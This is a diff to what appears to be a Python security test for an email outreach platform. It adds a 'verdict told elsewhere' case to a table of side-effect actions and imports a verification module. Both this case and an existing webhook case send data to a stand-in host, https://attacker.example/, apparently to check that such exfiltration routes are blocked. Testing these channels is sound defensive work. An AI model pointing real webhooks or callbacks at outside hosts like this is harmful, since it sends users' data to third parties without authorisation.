@@ -16,7 +16,7 @@ from outrider.outreach.campaigns import campaign_senders, campaign_states, campa
 from outrider.outreach.conversations import webhooks
 from outrider.outreach.correspondence import letters
 from outrider.outreach.enrollments import enrollments, outcomes, placement_changes, sources
-from outrider.outreach.leads import leads, suppression
+from outrider.outreach.leads import leads, suppression, verification
 from outrider.outreach.leads.leads import LeadInput
 from outrider.outreach.senders import senders, warmup
 from outrider.outreach.senders.senders import SenderInput, Server
@@ -53,6 +53,9 @@ WAYS: dict[str, Way] = {
     ),
     "a webhook": lambda d, s: webhooks.create(
         s, dialect="outrider", url="https://attacker.example/", event_types=["reply.received"]
+    ),
+    "a verdict told elsewhere": lambda d, s: verification.record(
+        s, "p0@prospect.example", "pending", webhook_url="https://attacker.example/?what=was-read"
     ),
     "a job": lambda d, s: jobs.enqueue(s, "leads.move", {"to": d.made.campaign_id}),
     "another key": lambda d, s: keys.create(s, "another"),
